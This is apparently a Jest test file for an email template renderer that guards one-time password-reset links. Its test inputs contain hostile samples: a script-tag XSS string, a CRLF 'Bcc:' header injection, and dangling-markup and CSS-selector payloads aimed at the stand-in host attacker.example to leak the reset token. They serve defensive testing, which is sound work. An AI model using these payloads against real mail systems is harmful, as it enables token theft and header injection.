import { describe, expect, it } from '@jest/globals';
import { TEMPLATE_KEYS, type ActionLink } from './default-template.js';
import { DEFAULT_TEMPLATES } from './defaults/index.js';
import { renderEmail, templateProblem } from './template-renderer.js';

describe('template rendering', () => {
  it('renders every default template from its sample data, with a text part', () => {
    for (const key of TEMPLATE_KEYS) {
      const template = DEFAULT_TEMPLATES[key];
      expect(templateProblem('subject', template.subject)).toBeNull();
      expect(templateProblem('body', template.body)).toBeNull();
      const rendered = renderEmail(template, template.sampleData);
      expect(rendered.subject).not.toContain('{{');
      expect(rendered.text.length).toBeGreaterThan(20);
    }
  });

  it('escapes placeholders in the body but not in the plain-text subject', () => {
    const rendered = renderEmail({ subject: 'Re: {{title}}', body: '<p>{{title}}</p>' }, { title: '<script>alert("x")</script> & co' });
    expect(rendered.html).toBe('<p>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co</p>');
    expect(rendered.subject).toBe('Re: <script>alert("x")</script> & co');
    expect(rendered.text).toContain('<script>alert("x")</script> & co');
  });

  it('keeps the subject on one line', () => {
    expect(renderEmail({ subject: '{{a}}\n{{b}}', body: 'x' }, { a: 'one', b: 'two\r\nBcc: someone@example.com' }).subject).toBe(
      'one two Bcc: someone@example.com',
    );
  });

  it('names the field of a template that would not render', () => {
    expect(templateProblem('body', '<p>{{#if name}}open')).toMatchObject({ field: 'body', issue: expect.stringContaining('not a valid Handlebars template') });
    expect(templateProblem('body', '{{shout name}}')).toMatchObject({ field: 'body' });
    expect(templateProblem('subject', '{{{name}}}')).toMatchObject({ field: 'subject', issue: expect.stringContaining('unescaped') });
    expect(templateProblem('body', '{{> footer}}')).toMatchObject({ field: 'body', issue: expect.stringContaining('partials') });
  });

  describe('security templates (a one-time link)', () => {
    const action: ActionLink = { variable: 'resetUrl', label: 'Reset my password' };
    const resetUrl = 'https://app.example/reset-password?token=kpr_secret';

    it('refuses a template that reaches the link, however it is spelled', () => {
      for (const source of [
        '{{resetUrl}}',
        '{{this.resetUrl}}',
        '{{@root.resetUrl}}',
        '{{#with this}}{{resetUrl}}{{/with}}',
        '{{lookup this "resetUrl"}}',
        '<a href="{{#if resetUrl}}x{{/if}}">',
      ]) {
        expect(templateProblem('subject', source, action)).toMatchObject({ field: 'subject', issue: expect.stringContaining('{{resetUrl}}') });
      }
      expect(templateProblem('body', '<p>Hello {{name}}</p>', action)).toBeNull();
      expect(templateProblem('body', '{{resetUrl}}')).toBeNull();
    });

    it('never gives the link to the template and places it in a fixed block after the body', () => {
      const rendered = renderEmail(
        { subject: '{{#each this}}{{@key}}={{this}} {{/each}}', body: '<p>{{#each this}}{{this}} {{/each}}</p>' },
        { name: 'Ada', resetUrl },
        action,
      );
      expect(rendered.subject).toBe('name=Ada');
      expect(rendered.html.match(/kpr_secret/g)).toHaveLength(1);
      expect(rendered.html).toMatch(
        /<p>Ada <\/p>\n<p[^>]*><a href="https:\/\/app\.example\/reset-password\?token=kpr_secret"[^>]*>Reset my password<\/a><\/p>$/,
      );
      expect(rendered.text).toContain(`Reset my password [${resetUrl}]`);
      expect(renderEmail({ subject: 'Reset', body: '<p>Café {{name}}</p>' }, { name: 'A & <B>', resetUrl }, action).html).toMatch(
        /^<p>Café A &amp; &lt;B&gt;<\/p>\n/,
      );
    });

    it('closes what the workspace’s body leaves open and drops styles, so the block cannot be swallowed or probed', () => {
      for (const body of [
        '<img src="https://attacker.example/?rest=',
        '<a href="https://attacker.example/?x=',
        '<!-- ',
        '<textarea>',
        '<style>a[href*="kpr_"]{background:url(https://attacker.example/)}</style>',
        '<table><tr><td>',
      ]) {
        const rendered = renderEmail({ subject: 'Reset', body }, { resetUrl }, action);
        expect(rendered.html).toMatch(/\n<p[^>]*><a href="https:\/\/app\.example\/reset-password\?token=kpr_secret"[^>]*>Reset my password<\/a><\/p>$/);
        expect(rendered.html).not.toContain('<style');
        expect(rendered.html).not.toContain('<textarea');
        const workspacePart = rendered.html.slice(0, rendered.html.lastIndexOf('\n<p style="margin:24px 0">'));
        expect(workspacePart).not.toMatch(/<[^>]*$|<!--(?![\s\S]*-->)/);
      }
    });
  });
});
